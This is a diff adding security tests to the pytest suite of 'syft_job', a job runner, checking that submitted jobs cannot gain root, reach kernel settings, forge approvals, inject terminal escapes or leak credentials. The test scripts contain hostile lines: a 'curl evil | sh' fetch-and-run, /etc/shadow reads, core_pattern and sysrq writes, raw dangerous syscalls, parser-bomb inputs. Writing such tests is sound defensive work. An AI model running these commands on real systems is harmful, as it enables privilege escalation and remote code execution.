@@ -6,6 +6,8 @@ Run with: python -m pytest -q test_syft_job.py
 from __future__ import annotations
 
 import contextlib
+import errno
+import hashlib
 import json
 import os
 import random
@@ -1390,7 +1392,9 @@ def test_jobs_that_cannot_run_are_finished_with_a_reason(runner, capsys):
 def test_a_runner_side_error_finishes_the_job_and_the_others_still_run(plain_runner, tmp_path, monkeypatch, capsys):
     first = make_job(plain_runner, "first", "echo one")
     second = make_job(plain_runner, "second", "echo two")
-    monkeypatch.setenv("PATH", str(tmp_path / "no-bash-here"))  # bash cannot be started
+    def cannot_start(*args, **kwargs):
+        raise OSError(errno.EAGAIN, "no process can be made now")
+    monkeypatch.setattr(syft_job.subprocess, "Popen", cannot_start)
     results = plain_runner.process_approved_jobs()
     out = capsys.readouterr().out
     for job in (first, second):
@@ -1781,6 +1785,314 @@ def test_a_live_runners_claim_is_left_alone(runner, capsys):
 
 
 # ---------------------------------------------------------------------------
+# No job holds the owner's powers: each attack made with the runner as root AND as an
+# ordinary user (uid 65534 through setpriv, when the tests run as root)
+# ---------------------------------------------------------------------------
+
+NOBODY = 65534
+
+
+class Owner:
+    """Runs ``syft-job`` as one kind of data owner: ``root`` (its jobs run as nobody) or
+    ``user`` (an ordinary account: uid 65534 when the tests run as root). The user's
+    runner imports a copy of the module, from a folder that account can read."""
+
+    def __init__(self, kind: str, tmp_path: Path) -> None:
+        self.kind = kind
+        self.switch = kind == "user" and os.geteuid() == 0
+        self.home = tmp_path / f"home-{kind}"
+        self.home.mkdir()
+        self.lib = HERE
+        if self.switch:
+            self.lib = tmp_path / "lib"
+            self.lib.mkdir()
+            shutil.copy(HERE / "syft_job.py", self.lib / "syft_job.py")
+            os.chown(self.home, NOBODY, NOBODY)
+
+    @property
+    def job_uid(self) -> int:
+        """The uid the jobs of this owner run as."""
+        return NOBODY if os.geteuid() == 0 else os.getuid()
+
+    def cli(self, syftbox: Path, *args: str, timeout: float = 120, **env: str) -> subprocess.CompletedProcess:
+        if self.switch:  # the owner's datasite is the owner's
+            for parent, folders, files in os.walk(syftbox):
+                for name in [parent] + [os.path.join(parent, n) for n in folders + files]:
+                    os.chown(name, NOBODY, NOBODY, follow_symlinks=False)
+        prefix = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--"] if self.switch else []
+        environment = cli_env(HOME=str(self.home), XDG_STATE_HOME=str(self.home / "state"), PYTHONPATH=str(self.lib),
+                              **env)
+        python = JOB_PYTHON if self.switch else sys.executable
+        return subprocess.run(prefix + [python, "-m", "syft_job", *args, *site_args(syftbox)], env=environment,
+                              capture_output=True, text=True, timeout=timeout)
+
+
+@pytest.fixture(params=["root", "user"])
+def owner(request, tmp_path) -> Owner:
+    if request.param == "root" and os.geteuid() != 0:
+        pytest.skip("the runner as root: the tests do not run as root here")
+    if request.param == "user" and os.geteuid() == 0 and not shutil.which("setpriv"):
+        pytest.skip("the runner as an ordinary user: util-linux's setpriv is not installed")
+    return Owner(request.param, tmp_path)
+
+
+def legacy_job(syftbox: Path, name: str, script: str, submitter: str = DS, approved: bool = True) -> Path:
+    """A legacy job folder, as 0.1.24's client writes it (no runner object needed)."""
+    folder = syftbox / OWNER / "app_data" / "job" / submitter / name
+    folder.mkdir(parents=True)
+    (folder / "config.yaml").write_text(syft_job.dump_yaml({"name": name, "submitted_by": submitter}))
+    (folder / "run.sh").write_text(textwrap.dedent(script))
+    if approved:
+        (folder / "approved").touch()
+    return folder
+
+
+KERNEL_ATTACK = """
+id -u
+grep -E '^Cap(Eff|Prm)' /proc/self/status
+cat /proc/sys/kernel/core_pattern > /tmp/pattern  # written back as it is: harmless if it ever worked
+cat /tmp/pattern > /proc/sys/kernel/core_pattern 2>/dev/null && echo "WROTE core_pattern"
+echo 1 > /proc/sys/vm/drop_caches 2>/dev/null && echo "WROTE drop_caches"
+head -c 1 /etc/shadow >/dev/null 2>&1 && echo "READ shadow"
+setsid sh -c 'id -u > /tmp/setsid-uid; cat /tmp/setsid-uid' 2>/dev/null
+for p in /proc/[0-9]*; do [ $p = /proc/1 ] || awk '/^Uid:/ {print "uid-of-a-process", $2}' $p/status; done | sort -u
+awk '/^CapEff:/ {e=$2} /^CapPrm:/ {p=$2} END {print "init-caps", e, p}' /proc/1/status
+"""
+
+
+@pytest.mark.parametrize("isolation", ["none", pytest.param("sandbox", marks=needs_sandbox)])
+def test_no_process_of_a_job_is_root_or_reaches_the_kernels_settings(syftbox, owner, isolation):
+    job = legacy_job(syftbox, "kernel", KERNEL_ATTACK)
+    before = Path("/proc/sys/kernel/core_pattern").read_text()
+    result = owner.cli(syftbox, "once", "--isolation", isolation)
+    out = (job / "stdout.txt").read_text()
+    assert result.returncode == 0, result.stdout + result.stderr
+    lines = out.splitlines()
+    assert lines[0] == str(owner.job_uid) != "0", out
+    assert "CapEff:\t0000000000000000" in out and "CapPrm:\t0000000000000000" in out
+    assert "WROTE" not in out and "READ shadow" not in out, out
+    assert Path("/proc/sys/kernel/core_pattern").read_text() == before
+    if isolation == "sandbox":  # every process it can see runs as its account, but bubblewrap's own init
+        assert {line for line in lines if line.startswith("uid-of")} == {f"uid-of-a-process {owner.job_uid}"}, out
+        assert "init-caps 0000000000000000 0000000000000000" in out, out  # which runs as root without capabilities
+    if os.geteuid() == 0:
+        assert "without a sandbox" in result.stdout if isolation == "none" else "without a sandbox" not in result.stdout
+
+
+SECCOMP_ATTACK = r"""
+python3 - <<'EOF'
+import ctypes, errno, os
+libc = ctypes.CDLL(None, use_errno=True)
+calls = {"x86_64": dict(ptrace=101, process_vm_readv=310, process_vm_writev=311, keyctl=250, add_key=248,
+                        request_key=249, bpf=321, perf_event_open=298, userfaultfd=323, io_uring_setup=425,
+                        kexec_load=246, init_module=175, finit_module=313, mount=165),
+         "aarch64": dict(ptrace=117, process_vm_readv=270, process_vm_writev=271, keyctl=219, add_key=217,
+                         request_key=218, bpf=280, perf_event_open=241, userfaultfd=282, io_uring_setup=425,
+                         kexec_load=104, init_module=105, finit_module=273, mount=40)}[os.uname().machine]
+for name, number in calls.items():
+    result = libc.syscall(number, -1, -1, -1, -1, -1, -1)
+    print(name, result, errno.errorcode.get(ctypes.get_errno()))
+print("unshare-user", libc.unshare(0x10000000), errno.errorcode.get(ctypes.get_errno()))
+EOF
+unshare -U true 2>/dev/null && echo "made a user namespace"
+echo 1 > /proc/sysrq-trigger 2>/dev/null && echo "WROTE sysrq"
+cat /proc/keys /proc/timer_list 2>/dev/null | head -c 1 | grep -q . && echo "READ a hidden /proc file"
+ls /sys 2>/dev/null | head -1 | grep -q . && echo "SEES /sys"
+touch /proc/acpi/x 2>/dev/null && echo "WROTE /proc/acpi"
+echo end
+"""
+
+
+@needs_sandbox
+@pytest.mark.skipif(os.uname().machine not in ("x86_64", "aarch64"), reason="the seccomp filter is for x86_64 and "
+                                                                            "aarch64 only")
+def test_in_the_sandbox_the_kernels_dangerous_calls_and_files_are_closed(syftbox, owner):
+    job = legacy_job(syftbox, "syscalls", SECCOMP_ATTACK.replace("python3", JOB_PYTHON))
+    result = owner.cli(syftbox, "once", "--isolation", "sandbox")
+    out = (job / "stdout.txt").read_text()
+    assert result.returncode == 0 and out.endswith("end\n"), result.stdout + (job / "stderr.txt").read_text()
+    verdicts = dict(line.split(" ", 1) for line in out.splitlines() if line != "end")
+    assert len(verdicts) == 15 and all(v == "-1 EPERM" for v in verdicts.values()), verdicts
+
+
+@pytest.mark.parametrize("setup", ["flow style", "glob email", "USER", "written before protection"])
+@pytest.mark.parametrize("strict", [False, True])
+def test_a_submitter_written_approval_never_runs(syftbox, owner, setup, strict):
+    ds_folder = syftbox / OWNER / "app_data" / "job" / DS
+    job = legacy_job(syftbox, "forged", "echo ran > outputs/ran.txt\n", approved=False)
+    rules = {"flow style": "rules:\n- pattern: '**'\n  access: {write: [ds@test.org]}\n",
+             "glob email": "rules:\n- pattern: '**'\n  access:\n    write: ['*@*.org']\n",
+             "USER": "rules:\n- pattern: '**'\n  access:\n    write: [USER]\n",
+             "written before protection": "rules:\n- pattern: '**'\n  access:\n    write: [ds@test.org]\n"}
+    (ds_folder / "syft.pub.yaml").write_text(rules[setup])
+    # The forger hashes its own files, as approve_job would, and writes the approval.
+    files = {n: hashlib.sha256((job / n).read_bytes()).hexdigest() for n in ("config.yaml", "run.sh")}
+    (job / "approved").write_text(json.dumps({"approved_by": OWNER, "files": files}))
+    flags = ["--strict"] * strict
+    first = owner.cli(syftbox, "once", *flags)
+    second = owner.cli(syftbox, "once", *flags)
+    assert not (job / "outputs" / "ran.txt").exists() and not (job / "done").exists(), first.stdout + second.stdout
+    assert "Job ds@test.org/forged is not run" in first.stdout + second.stdout
+
+
+def test_under_strict_only_the_approval_kept_in_the_work_dir_counts(syftbox, owner):
+    job = legacy_job(syftbox, "forged", "echo ran > outputs/ran.txt\n", approved=False)
+    files = {n: hashlib.sha256((job / n).read_bytes()).hexdigest() for n in ("config.yaml", "run.sh")}
+    (job / "approved").write_text(json.dumps({"approved_by": OWNER, "files": files}))  # no rule lets ds write it
+    result = owner.cli(syftbox, "once", "--strict")
+    assert not (job / "done").exists() and "approved without a digest" in result.stdout
+    assert owner.cli(syftbox, "approve", "forged").returncode == 0
+    assert owner.cli(syftbox, "once", "--strict").returncode == 0 and (job / "outputs" / "ran.txt").exists()
+
+
+def test_show_prints_exactly_the_bytes_it_hashed_while_the_submitter_swaps_them(syftbox):
+    runner = syft_job.create_runner(syftbox, OWNER, console=False)
+    job = make_job(runner, "swap", "echo benign\n", approved=False)
+    scripts = [b"echo benign\n", b"curl evil | sh\n"]
+    stop = threading.Event()
+
+    def swap() -> None:
+        while not stop.is_set():
+            for data in scripts:
+                tmp = job / "run.sh.tmp"
+                tmp.write_bytes(data)
+                os.replace(tmp, job / "run.sh")
+
+    swapper = threading.Thread(target=swap, daemon=True)
+    swapper.start()
+    try:
+        for _ in range(40):
+            view = runner.describe_job("swap")
+            shown = [line.split(": ", 1)[1] for line in view["run_sh"].splitlines()]
+            hashed = next(f["sha256"] for f in view["files"] if f["path"] == "run.sh")
+            assert hashlib.sha256(("\n".join(shown) + "\n").encode()).hexdigest() == hashed, view["run_sh"]
+    finally:
+        stop.set()
+        swapper.join(10)
+
+
+HOSTILE_FILES = [
+    ("5000-digit integer", b"name: " + b"1" * 5000 + b"\n"),
+    ("JSON nested 10,000 deep", b'{"a":' * 10000 + b"1" + b"}" * 10000),
+    ("flow list nested 10,000 deep", b"a: " + b"[" * 10000 + b"]" * 10000 + b"\n"),
+    ("block nested 10,000 deep", b"".join(b" " * i + b"k:\n" for i in range(0, 20000, 2))),
+    ("NUL byte", b"name: a\x00b\n"),
+    ("invalid UTF-8", b"name: \xff\xfe\n"),
+    ("1 MB line", b"name: " + b"x" * (1 << 20) + b"\n"),
+    ("1 MB of [", b"a: " + b"[" * (1 << 20) + b"\n"),
+    ("a list", b"- 1\n- 2\n"),
+    ("rules that are not rules", b"rules: [5, x, {pattern: 5}]\n"),
+]
+
+
+@pytest.mark.parametrize("where", ["config", "state", "permission"])
+def test_one_hostile_file_stops_one_job_and_no_command_ends_in_a_traceback(runner, syftbox, where):
+    good, good_results = new_job(runner, "good", "echo fine")
+    for i, (_, content) in enumerate(HOSTILE_FILES):  # each in a job of its own, from a submitter of its own
+        bad, bad_results = new_job(runner, f"bad{i}", "echo bad-ran", submitter=f"s{i}@test.org")
+        target = {"config": bad / "config.yaml", "state": bad_results / "state.yaml",
+                  "permission": bad.parent / "syft.pub.yaml"}[where]
+        target.write_bytes(content)
+    commands = [["once"], ["list"], ["list", "--json"], ["show", "good"], ["logs", "bad0"]] + [
+        ["show", f"bad{i}"] for i in range(len(HOSTILE_FILES))]
+    for command in commands:
+        result = cli(*command, *site_args(syftbox), timeout=60)
+        assert "Traceback" not in result.stdout + result.stderr, (command, result.stderr[-2000:])
+        assert result.returncode in (0, 1, 2), (command, result.returncode)
+        assert result.returncode == 0 or command[0] != "list", (command, result.stderr)
+    assert (good_results / "stdout.txt").read_text() == "fine\n"
+    proc = subprocess.Popen([sys.executable, "-m", "syft_job", "run", "--poll-interval", "0.2", *site_args(syftbox)],
+                            env=cli_env(), stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
+    try:
+        with pytest.raises(subprocess.TimeoutExpired):  # still polling, after several polls
+            proc.wait(timeout=2)
+    finally:
+        proc.send_signal(signal.SIGINT)
+        out = proc.communicate(timeout=30)[0]
+    assert "Traceback" not in out, out[-2000:]
+
+
+def test_a_name_that_is_not_utf8_or_forges_lines_is_shown_escaped(syftbox, owner):
+    job_dir = syftbox / OWNER / "app_data" / "job" / DS
+    good = legacy_job(syftbox, "good", "echo fine\n")
+    forged = os.fsencode(str(job_dir)) + b"/x\xff\n\x1b[31m\xe2\x9c\x85 Job good completed"
+    os.mkdir(forged)
+    Path(os.fsdecode(forged), "config.yaml").write_text("name: x\n")
+    Path(os.fsdecode(forged), "run.sh").write_text("printf 'out \\033]52;c;ZXZpbA==\\007 \\033[2J done\\n'\n")
+    Path(os.fsdecode(forged), "approved").touch()
+    for env in ({}, {"PYTHONIOENCODING": "ascii"}):
+        result = owner.cli(syftbox, "once", **env)
+        assert "Traceback" not in result.stderr and result.returncode == 0, result.stderr
+        assert "\x1b" not in result.stdout and "\x07" not in result.stdout
+        assert not any(line.startswith("\x1b") or line.startswith("✅ Job good completed") and "x\\xff" in line
+                       for line in result.stdout.splitlines())
+        shutil.rmtree(good / "outputs", ignore_errors=True)
+    assert (good / "stdout.txt").read_text() == "fine\n"
+
+
+def test_a_jobs_escape_sequences_never_reach_the_terminal_raw(syftbox, owner):
+    job = legacy_job(syftbox, "osc", "printf 'a\\033]52;c;ZXZpbA==\\007b\\033[2Jc\\302\\233d\\n'\n")
+    streamed = owner.cli(syftbox, "once")
+    assert streamed.returncode == 0 and "\x1b" not in streamed.stdout and "\x07" not in streamed.stdout
+    assert "a\\x1b]52;c;ZXZpbA==\\x07b\\x1b[2Jc\\x9bd" in streamed.stdout
+    shown = owner.cli(syftbox, "logs", "osc")
+    assert shown.stdout == "a\\x1b]52;c;ZXZpbA==\\x07b\\x1b[2Jc\\x9bd\n"
+    raw = owner.cli(syftbox, "logs", "osc", "--raw")
+    assert raw.stdout == "a\x1b]52;c;ZXZpbA==\x07b\x1b[2Jc\x9bd\n" == (job / "stdout.txt").read_text()
+
+
+@pytest.mark.parametrize("isolation", ["none", pytest.param("sandbox", marks=needs_sandbox)])
+def test_outputs_cannot_flood_the_owner(syftbox, owner, isolation):
+    many = legacy_job(syftbox, "many", "mkdir outputs/d && cd outputs/d && seq 1 300 | xargs touch\n")
+    sparse = legacy_job(syftbox, "sparse", "truncate -s 2G outputs/huge.bin && echo small > outputs/small.txt\n")
+    result = owner.cli(syftbox, "once", "--isolation", isolation, "--max-output-files", "100")
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert sum(1 for _ in (many / "outputs").rglob("*")) == 100
+    assert "held back" in (many / "stderr.txt").read_text()
+    assert not (sparse / "outputs" / "huge.bin").exists() and (sparse / "outputs" / "small.txt").exists()
+    assert "outputs/huge.bin" in (sparse / "stderr.txt").read_text()  # the 1 GiB default held it back
+    shown = owner.cli(syftbox, "show", "sparse")
+    assert "Held back, over the output limits: 1 output(s): outputs/huge.bin" in shown.stdout, shown.stdout
+    tight = owner.cli(syftbox, "rerun", "sparse")
+    assert tight.returncode == 0
+    owner.cli(syftbox, "once", "--isolation", isolation, "--max-output-size", "1K")
+    assert (sparse / "outputs" / "small.txt").exists()
+
+
+def test_credentials_do_not_reach_jobs_unless_named(syftbox, owner):
+    job = legacy_job(syftbox, "env", "env | grep -E '^UV_' | sort\n")
+    secrets = {"UV_PUBLISH_TOKEN": "pypi-secret", "UV_INDEX_CORP_PASSWORD": "hunter2",
+               "UV_INDEX_URL": "https://alice:s3cret@pypi.corp.example/simple", "UV_CONCURRENT_DOWNLOADS": "4"}
+    assert owner.cli(syftbox, "once", **secrets).returncode == 0
+    out = (job / "stdout.txt").read_text()
+    assert "pypi-secret" not in out and "hunter2" not in out and "s3cret" not in out and "alice" not in out
+    assert "UV_INDEX_URL=https://pypi.corp.example/simple" in out and "UV_CONCURRENT_DOWNLOADS=4" in out
+    assert owner.cli(syftbox, "rerun", "env").returncode == 0
+    assert owner.cli(syftbox, "once", "--pass-env", "UV_PUBLISH_TOKEN", **secrets).returncode == 0
+    assert "UV_PUBLISH_TOKEN=pypi-secret" in (job / "stdout.txt").read_text()
+
+
+def test_no_silent_downgrade(syftbox, tmp_path, owner):
+    refused = owner.cli(syftbox, "once", "--isolation", "none", "--no-network")
+    assert refused.returncode == 2 and "needs the sandbox" in refused.stderr and len(refused.stderr.splitlines()) == 1
+    for path in (syftbox, syftbox.parent, owner.home):
+        wide = owner.cli(syftbox, "once", "--allow-read", str(path))
+        assert wide.returncode == 2 and "would let jobs read" in wide.stderr, wide.stderr
+    legacy_job(syftbox, "plain", "echo hi\n")
+    unsandboxed = owner.cli(syftbox, "once", "--isolation", "none")
+    assert any(line.startswith("⚠️") and "without a sandbox" in line and "isolation 'none' was asked for" in line
+               for line in unsandboxed.stdout.splitlines()), unsandboxed.stdout
+
+
+def test_a_reason_shown_to_the_submitter_names_no_local_path(runner, syftbox):
+    folder, results = new_job(runner, "odd", "echo hi", approve=False)
+    (folder / "config.yaml").write_bytes(b"name: \xff\n")
+    runner.check_for_new_jobs()
+    reason = state_of(results)["review_reason"]
+    assert reason and str(syftbox) not in reason and "app_data/job/inbox/ds@test.org/odd" in reason, reason
+
+
+# ---------------------------------------------------------------------------
 # Many jobs at once
 # ---------------------------------------------------------------------------
 
@@ -2131,9 +2443,11 @@ def ds_folder_with_usual_permissions(runner, extra_read=()) -> Path:
 
 def finished_job(runner, name: str = "test.job") -> Path:
     job = make_job(runner, name, "echo out\necho err >&2\nmkdir -p outputs/deep\necho 1 > outputs/result.csv\n"
-                                 "echo 2 > outputs/deep/er.txt\n")
+                                 "echo 2 > outputs/deep/er.txt\n", approved=False)
     (job / "code").mkdir()
     (job / "code" / "main.py").write_text("")
+    runner.check_for_new_jobs()  # the runner protects the folder; an approval from before could be forged
+    (job / "approved").touch()
     runner.process_approved_jobs(stream_output=False)
     assert (job / "done").exists()
     return job
